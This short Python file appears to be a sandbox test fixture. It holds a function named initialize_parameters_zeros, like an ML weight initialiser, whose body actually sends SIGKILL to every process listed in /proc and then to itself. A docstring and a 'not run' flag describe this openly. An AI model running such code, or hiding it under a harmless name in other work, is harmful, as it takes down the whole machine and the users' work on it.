"""Kills every process that it sees in /proc, one by one, itself last."""

OFF = "not run: outside the sandbox it would end every process on the machine"
FUNCTIONS = ["initialize_parameters_zeros"]
CODE = """
import os
import signal


def initialize_parameters_zeros(layers_dims):
    pids = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    for pid in sorted(pids, reverse=True):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
"""
